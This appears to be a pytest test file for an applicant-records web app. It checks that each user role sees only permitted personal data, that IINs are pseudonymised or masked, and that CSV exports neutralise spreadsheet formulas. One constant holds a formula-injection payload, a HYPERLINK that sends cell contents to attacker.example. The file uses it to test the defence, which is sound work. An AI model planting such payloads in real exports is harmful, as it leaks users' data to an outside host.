"""Findings 5 and 12: each role sees of a person only what it may, at every exit; CSV cells and
unknown processes on the analytics pages."""

import csv
import io
import json
import re
from datetime import UTC, datetime

import pytest
from click.testing import CliRunner
from cryptography.hazmat.primitives import serialization

from tests.operations.conftest import PASSWORD, TASKS
from tests.runtime.conftest import Registry
from webapp.accounts import ROLES, create_user, issue_token
from webapp.analytics.cells import cell
from webapp.bootstrap import build
from webapp.cli import main
from webapp.db.session import make_engine, make_session_factory, upgrade
from webapp.runtime.engine import Runtime
from webapp.settings import SUMMARY_FIELDS, TASK_SEARCH_FIELDS, Settings
from webapp.signing import issue_person_certificate, make_demo_ca
from webapp.signing.evidence import SignatureEvidence, SigningMethod
from webapp.web import create_app

IIN = "850314304175"
OTHER_IIN = "621102401239"
INJECTION = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
CA = make_demo_ca()
CREDENTIALS = issue_person_certificate(CA, IIN, "NURLANOVA AIGERIM")
PEM = CREDENTIALS.certificate.public_bytes(serialization.Encoding.PEM).decode()
EVIDENCE = SignatureEvidence(
    method=SigningMethod.EDS,
    signer_iin=IIN,
    document_sha256="ab" * 32,
    signed_at=datetime(2026, 11, 2, 9, 30, tzinfo=UTC),
    cms="Y21z",
    certificate_subject=CREDENTIALS.certificate.subject.rfc4514_string(),
    certificate_issuer=CA.certificate.subject.rfc4514_string(),
    certificate_serial=str(CREDENTIALS.certificate.serial_number),
    certificate_fingerprint="fingerprint",
    certificate_pem=PEM,
)
PERSONA = {
    "who": "applicant",
    "applicant_iin": IIN,
    "person_iin": IIN,
    "applicant_last_name": "Nurlanova",
    "applicant_first_name": "Aigerim",
    "applicant_patronymic": "Serikkyzy",
    "applicant_phone": "+77011234567",
    "applicant_birth_date": "1985-03-14",
    "identity_document_number": "045612378",
    "passport_number": "N98765432",
    "address_text": "Almaty, Abay avenue 150, flat 42",
    "signature": json.dumps(
        {
            **EVIDENCE.to_dict(),
            "document": {
                "language": "en",
                "signed_text": f"Applicant: Nurlanova Aigerim Serikkyzy, IIN {IIN}",
                "sha256": "ab" * 32,
            },
        }
    ),
    "note": f"called {IIN} back on +7 701 123 45 67",
}
# What each kind of field looks like in an answer that shows it. Written by hand.
SEEDED = {
    "iin": [IIN],
    "masked_iin": ["8503******75"],
    "name": ["Nurlanova", "Aigerim", "Serikkyzy"],
    "phone": ["7011234567", "701 123 45 67"],
    "birth_date": ["1985-03-14"],
    "document": ["045612378", "N98765432"],
    "address": ["Abay avenue"],
    "certificate": [PEM.splitlines()[3], "IIN850314304175"],
}
EVERYTHING_PERSONAL = set(SEEDED)
# Who may not see what, from the product's rules (DESIGN.md's people and their jobs).
DENIED = {
    "applicant": set(),
    "clerk": set(),
    "supervisor": set(),
    "administrator": EVERYTHING_PERSONAL - {"masked_iin"},
    "analyst": EVERYTHING_PERSONAL,
    "process_owner": EVERYTHING_PERSONAL,
}


@pytest.fixture
def engine(database_url):
    engine = make_engine(database_url)
    upgrade(engine)
    yield engine
    engine.dispose()


@pytest.fixture
def seeded(engine, tmp_path):
    """Return the app, its runtime and the ids of a persona's two applications and another's."""
    runtime = Runtime(
        make_session_factory(engine),
        {"registry.lookup": Registry().lookup},
        config={},
        summary_fields=SUMMARY_FIELDS,
        search_fields=TASK_SEARCH_FIELDS,
    )
    runtime.deploy(TASKS)
    with runtime.session_factory.begin() as session:
        for role in ROLES:
            iin = IIN if role == "applicant" else None
            create_user(session, f"{role}-user", PASSWORD, [role], iin=iin)
    ids = (
        runtime.start("tasks", {**PERSONA, "application_number": INJECTION}, "clerk-user").id,
        runtime.start("tasks", {**PERSONA, "application_number": "A-0002"}, "clerk-user").id,
        runtime.start(
            "tasks", {"who": "x", "applicant_iin": OTHER_IIN, "application_number": "A-0003"}
        ).id,
    )
    app = create_app(
        {
            "TESTING": True,
            "SECRET_KEY": "test secret",
            "PSEUDONYM_KEY": "pseudonym test key",
            "DATABASE_URL": "sqlite://",
            "RUNTIME": runtime,
            "SESSION_FACTORY": runtime.session_factory,
            "ARCHIVE_FOLDER": tmp_path / "archives",
            "WTF_CSRF_ENABLED": False,
            "RATELIMIT_ENABLED": False,
        }
    )
    return app, runtime, ids


def client_for(app, role: str):
    client = app.test_client()
    answer = client.post("/login", data={"username": f"{role}-user", "password": PASSWORD})
    assert answer.status_code == 302
    return client


def api_get(app, runtime, role: str, path: str):
    with runtime.session_factory.begin() as session:
        token = issue_token(session, f"{role}-user")
    return app.test_client().get(path, headers={"Authorization": f"Bearer {token}"})


def readable_paths(app, instance_id: int) -> list[str]:
    """Return every GET route with real values in its variables, and the downloads' variants."""
    values = {
        "task_id": "00000000-0000-0000-0000-000000000000",
        "instance_id": str(instance_id),
        "incident_id": "1",
        "username": "clerk-user",
        "action": "resume",
        "process_id": "tasks",
        "number": "1",
        "version": "1",
        "name": "tasks.bpmn",
        "log_format": "csv",
        "booking_id": "1",
        "deployment_id": "1",
        "decision": "approve",
        "token_id": "1",
        "job_id": "1",
    }
    paths = []
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods or rule.endpoint in ("static", "auth.logout"):
            continue
        paths.append(re.sub(r"<(?:[^:<>]+:)?([^<>]+)>", lambda m: values[m.group(1)], rule.rule))
    return [
        *paths,
        "/analytics/export.xes",
        "/analytics/?q=A-0002",
        "/analytics/instances.csv?q=A-0002",
    ]


def leaks(body: str, role: str) -> list[str]:
    """Return the personal values in an answer that the role may not see."""
    text = body.lower()
    return [
        f"{kind}: {value}"
        for kind in sorted(DENIED[role])
        for value in SEEDED[kind]
        if value.lower() in text
    ]


def test_finding_5_no_page_answer_or_download_shows_a_role_what_it_may_not_see(seeded):
    app, runtime, (instance_id, _, _) = seeded
    found = []
    for role in ROLES:
        client = client_for(app, role)
        for path in readable_paths(app, instance_id):
            if path.startswith("/api/"):
                answer = api_get(app, runtime, role, path)
            else:
                answer = client.get(path)
            assert answer.status_code < 500, f"{path} as {role}: {answer.status_code}"
            found += [f"{path} as {role}: {leak}" for leak in leaks(answer.text, role)]
    assert found == [], "\n".join(found)


def test_finding_5_the_roles_that_serve_the_person_still_see_everything(seeded):
    app, runtime, (instance_id, _, _) = seeded
    answer = api_get(app, runtime, "clerk", f"/api/v1/instances/{instance_id}").text
    assert leaks(answer, "analyst") == [
        f"{kind}: {value}"
        for kind in sorted(SEEDED)
        for value in SEEDED[kind]
        if kind != "masked_iin"
    ]
    page = client_for(app, "supervisor").get(f"/analytics/instances/{instance_id}").text
    assert IIN in page and "Nurlanova" in page


def test_finding_5_api_instance_gives_analysts_pseudonyms_and_birth_years(seeded):
    app, runtime, (first, second, other) = seeded
    data = [
        api_get(app, runtime, "analyst", f"/api/v1/instances/{i}").get_json()["data"]
        for i in (first, second, other)
    ]
    assert data[0]["applicant_iin"].startswith("person-")
    assert data[0]["applicant_iin"] == data[1]["applicant_iin"] != data[2]["applicant_iin"]
    assert data[0]["applicant_birth_date"] == "1985"
    assert data[0]["applicant_last_name"] == "***"
    evidence = json.loads(data[0]["signature"])
    assert evidence["certificate_pem"] == evidence["certificate_subject"] == "***"
    assert evidence["cms"] == evidence["document"]["signed_text"] == "***"
    assert evidence["signer_iin"] == data[0]["applicant_iin"]
    assert evidence["document_sha256"] == "ab" * 32


def test_finding_5_pseudonyms_change_with_the_key(seeded, tmp_path):
    app, runtime, (first, _, _) = seeded
    shown = api_get(app, runtime, "analyst", f"/api/v1/instances/{first}").get_json()
    other_app = create_app({**app.config, "PSEUDONYM_KEY": "another key", "RUNTIME": runtime})
    again = api_get(other_app, runtime, "analyst", f"/api/v1/instances/{first}").get_json()
    assert shown["data"]["applicant_iin"] != again["data"]["applicant_iin"]


@pytest.mark.parametrize("role", ["analyst", "process_owner"])
@pytest.mark.parametrize(
    "path", ["/analytics/?q={}", "/analytics/instances.csv?q={}", "/analytics/export.csv?q={}"]
)
def test_finding_5_only_roles_that_see_iins_search_by_iin(seeded, role, path):
    app, _, _ = seeded
    answer = client_for(app, role).get(path.format(IIN))
    assert answer.status_code == 403
    assert "A-0002" not in answer.text
    for seer in ("supervisor", "administrator"):
        found = client_for(app, seer).get(path.format(IIN))
        assert found.status_code == 200 and "A-0002" in found.text


def test_administrators_find_by_iin_and_see_it_masked(seeded):
    app, _, _ = seeded
    page = client_for(app, "administrator").get(f"/admin/instances?q={IIN}").text
    found = page[page.index("<table") : page.index("</table>")]
    assert "A-0002" in found and IIN not in found and f"{IIN[:4]}******{IIN[-2:]}" in found


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_finding_12_cells_a_spreadsheet_would_run_are_quoted(start):
    assert cell(f"{start}SUM(A1)") == f"'{start}SUM(A1)"
    assert cell("A-0001") == "A-0001" and cell(3) == 3


def test_finding_12_downloads_and_the_cli_export_neutralise_formulas(seeded, tmp_path):
    app, runtime, (instance_id, _, _) = seeded
    client = client_for(app, "supervisor")
    listed = list(csv.reader(io.StringIO(client.get("/analytics/instances.csv").text)))
    assert [row[3] for row in listed if INJECTION in row[3]] == ["'" + INJECTION]
    runtime.complete(
        runtime.instance(instance_id).ready_tasks[0].id, {"who": "x"}, actor="clerk-user"
    )
    logged = list(csv.reader(io.StringIO(client.get("/analytics/export.csv").text)))
    cases = {row[0] for row in logged[1:]}
    assert "'" + INJECTION in cases and INJECTION not in cases
    url = runtime.session_factory.kw["bind"].url.render_as_string(hide_password=False)
    product = build(Settings.from_env(database_url=url, instance_path=tmp_path / "cli"))
    try:
        result = CliRunner().invoke(main, ["export", "--format", "csv"], obj=product)
    finally:
        product.engine.dispose()
    assert result.exit_code == 0, result.output
    cases = {row[0] for row in csv.reader(io.StringIO(result.output))}
    assert "'" + INJECTION in cases and INJECTION not in cases


@pytest.mark.parametrize(
    "path",
    [
        "/analytics/dashboard?process=nothing",
        "/analytics/dashboard?process=tasks&diagram=nothing",
        "/analytics/processes/nothing/1/diagram.bpmn",
        "/analytics/instances/{}?process=nothing",
        "/analytics/instances/{}/diagram.bpmn?process=nothing",
    ],
)
def test_finding_12_an_unknown_process_on_the_analytics_pages_is_not_found(seeded, path):
    app, _, (instance_id, _, _) = seeded
    answer = client_for(app, "analyst").get(path.format(instance_id))
    assert answer.status_code == 404
